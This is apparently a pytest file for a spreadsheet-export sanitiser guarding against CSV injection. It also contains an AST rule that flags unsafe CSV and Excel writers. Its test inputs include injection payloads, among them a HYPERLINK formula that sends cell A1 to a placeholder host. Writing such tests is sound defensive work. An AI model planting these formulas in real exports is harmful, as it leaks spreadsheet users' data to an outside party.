"""Spreadsheet cells (issue 9, OWASP CSV Injection): text that a spreadsheet would run as a
formula is written as text, and every module that writes CSV or Excel goes through
grid.cells to do it (a checked rule, like tests/test_architecture.py)."""

import ast
import csv
import io
import os
import tomllib
from datetime import date
from decimal import Decimal

import pytest

from grid.cells import safe_record, safe_row, spreadsheet_safe

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
with open(os.path.join(ROOT, "pyproject.toml"), "rb") as _fh:
    PACKAGES = tuple(tomllib.load(_fh)["tool"]["importlinter"]["root_packages"])
TOP_LEVEL = ("app.py", "extensions.py")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"点击")',
            '\'=HYPERLINK("http://x.example/?"&A1,"点击")',
        ),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("=", "'="),
        ("", ""),
        ("昌吉市某化工厂", "昌吉市某化工厂"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("'=1", "'=1"),
        (-5, -5),
        (3.25, 3.25),
        (Decimal("-1.5"), Decimal("-1.5")),
        (True, True),
        (None, None),
        (date(2025, 1, 1), date(2025, 1, 1)),
    ],
)
def test_formula_text_is_written_as_text(value, cell):
    assert spreadsheet_safe(value) == cell
    assert type(spreadsheet_safe(value)) is type(cell)


def test_rows_for_csv_writer_and_dict_writer():
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(safe_row(["=1+1", -2, "好", None]))
    dict_writer = csv.DictWriter(out, ["name", "count"])
    dict_writer.writerow(safe_record({"name": "@cmd", "count": 3}))
    assert out.getvalue() == "'=1+1,-2,好,\r\n'@cmd,3\r\n"


# --- the rule: whoever writes a spreadsheet goes through grid.cells -------------------------------

SAFE_CALLS = {"spreadsheet_safe", "safe_row", "safe_record"}
EXCEL_LIBRARIES = ("openpyxl", "xlsxwriter", "xlwt", "pyexcel")


def _name(node: ast.expr) -> str | None:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return node.attr
    return None


def _safe(node: ast.expr) -> bool:
    """An expression that is a constant or went through grid.cells (a cell, a row or rows)."""
    if isinstance(node, ast.Constant):
        return True
    if isinstance(node, ast.Call):
        if _name(node.func) in SAFE_CALLS:
            return True
        # map(safe_row, rows)
        return _name(node.func) == "map" and bool(node.args) and _name(node.args[0]) in SAFE_CALLS
    if isinstance(node, ast.List | ast.Tuple):
        return all(_safe(e) for e in node.elts)
    if isinstance(node, ast.Dict):
        return all(_safe(v) for v in node.values)
    if isinstance(node, ast.ListComp | ast.GeneratorExp):
        return _safe(node.elt)
    if isinstance(node, ast.DictComp):
        return _safe(node.value)
    return False


def _writes(tree: ast.Module) -> list[str]:
    """How the module writes CSV or Excel, if it does."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [a.name for a in node.names if a.name.split(".")[0] in EXCEL_LIBRARIES]
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] in EXCEL_LIBRARIES:
                found.append(node.module)
            if node.module == "csv":
                found += [f"csv.{a.name}" for a in node.names if a.name in ("writer", "DictWriter")]
        elif isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                found.append(f"csv.{node.attr}")
        elif isinstance(node, ast.Attribute) and node.attr in ("to_csv", "to_excel"):
            found.append(node.attr)
    return sorted(set(found))


def _imports_cells(tree: ast.Module) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "grid.cells":
            if {a.name for a in node.names} & SAFE_CALLS:
                return True
        if isinstance(node, ast.ImportFrom) and node.module == "grid":
            if any(a.name == "cells" for a in node.names):
                return True
    return False


def _sheets(tree: ast.Module) -> set[str]:
    """Names bound to an openpyxl worksheet: wb.active, wb.create_sheet(...), wb[...]."""
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and len(node.targets) == 1:
            target, value = node.targets[0], node.value
            if not isinstance(target, ast.Name):
                continue
            if (
                (isinstance(value, ast.Attribute) and value.attr == "active")
                or (isinstance(value, ast.Call) and _name(value.func) == "create_sheet")
                or (isinstance(value, ast.Subscript) and _name(value.value) in ("wb", "workbook"))
            ):
                names.add(target.id)
    return names


def spreadsheet_problems(source: str) -> list[str]:
    """Why this module's spreadsheet output might carry a formula (empty when it cannot)."""
    tree = ast.parse(source)
    writes = _writes(tree)
    if not writes:
        return []
    problems = []
    if not _imports_cells(tree):
        problems.append(f"writes {', '.join(writes)} without grid.cells")
    if {"to_csv", "to_excel"} & set(writes):
        problems.append("pandas to_csv/to_excel: write rows through grid.cells.safe_row instead")
    sheets = _sheets(tree)
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            method, receiver = node.func.attr, _name(node.func.value)
            values: list[ast.expr] = []
            if method in ("writerow", "writerows"):
                values = list(node.args)
            elif receiver in sheets and method == "append":
                values = list(node.args)
            elif receiver in sheets and method == "cell":
                values = [k.value for k in node.keywords if k.arg == "value"] + node.args[2:]
            for value in values:
                if not _safe(value):
                    problems.append(
                        f"line {node.lineno}: {receiver}.{method}({ast.unparse(value)}) "
                        "not through spreadsheet_safe/safe_row"
                    )
        elif isinstance(node, ast.Assign):
            for target in node.targets:
                into_sheet = isinstance(target, ast.Subscript) and _name(target.value) in sheets
                into_cell = isinstance(target, ast.Attribute) and target.attr == "value"
                if (into_sheet or into_cell) and not _safe(node.value):
                    problems.append(
                        f"line {node.lineno}: {ast.unparse(target)} = {ast.unparse(node.value)} "
                        "not through spreadsheet_safe"
                    )
    return problems


def _modules():
    for package in PACKAGES:
        for folder, _dirs, files in os.walk(os.path.join(ROOT, package)):
            yield from (os.path.join(folder, f) for f in files if f.endswith(".py"))
    yield from (os.path.join(ROOT, f) for f in TOP_LEVEL)


def test_every_module_writing_a_spreadsheet_goes_through_grid_cells():
    found = {}
    for path in _modules():
        with open(path, encoding="utf-8") as fh:
            problems = spreadsheet_problems(fh.read())
        if problems:
            found[os.path.relpath(path, ROOT)] = problems
    assert not found, found


@pytest.mark.parametrize(
    ("source", "bad"),
    [
        ("import csv\ndef f(out, rows):\n    w = csv.writer(out)\n    w.writerows(rows)\n", True),
        (
            "import csv\nfrom grid.cells import safe_row\n"
            "def f(out, rows):\n    w = csv.writer(out)\n    w.writerow(['名称', '类型'])\n"
            "    w.writerows(safe_row(r) for r in rows)\n",
            False,
        ),
        (
            "import csv\nfrom grid.cells import safe_row\n"
            "def f(out, s):\n    w = csv.writer(out)\n    w.writerow([s.name, s.kind])\n",
            True,
        ),
        (
            "import csv\nfrom grid.cells import spreadsheet_safe as cell, safe_row\n"
            "def f(out, s):\n    w = csv.DictWriter(out, ['name'])\n"
            "    w.writerow(safe_record({'name': s.name}))\n",
            False,
        ),
        ("from csv import DictWriter\ndef f(out):\n    DictWriter(out, ['a'])\n", True),
        ("import csv\ndef f(text):\n    return list(csv.reader(text))\n", False),
        (
            "from openpyxl import Workbook\nfrom grid.cells import safe_row, spreadsheet_safe\n"
            "def f(rows, s):\n    wb = Workbook()\n    ws = wb.active\n"
            "    ws.append(['名称'])\n    for r in rows:\n        ws.append(safe_row(r))\n"
            "    ws.cell(row=2, column=1, value=spreadsheet_safe(s.name))\n"
            "    ws['B2'] = spreadsheet_safe(s.kind)\n",
            False,
        ),
        (
            "from openpyxl import Workbook\nfrom grid.cells import safe_row\n"
            "def f(rows):\n    wb = Workbook()\n    ws = wb.active\n    for r in rows:\n"
            "        ws.append(r)\n",
            True,
        ),
        (
            "import openpyxl\nfrom grid.cells import safe_row\n"
            "def f(s):\n    wb = openpyxl.Workbook()\n    ws = wb.create_sheet('x')\n"
            "    ws['A1'] = s.name\n",
            True,
        ),
        (
            "import openpyxl\nfrom grid.cells import safe_row\n"
            "def f(ws, s):\n    ws.cell(row=1, column=1).value = s.name\n",
            True,
        ),
        ("import openpyxl\ndef f():\n    return openpyxl.Workbook()\n", True),
    ],
)
def test_the_rule_finds_unsafe_spreadsheet_writers(source, bad):
    assert bool(spreadsheet_problems(source)) is bad, spreadsheet_problems(source)
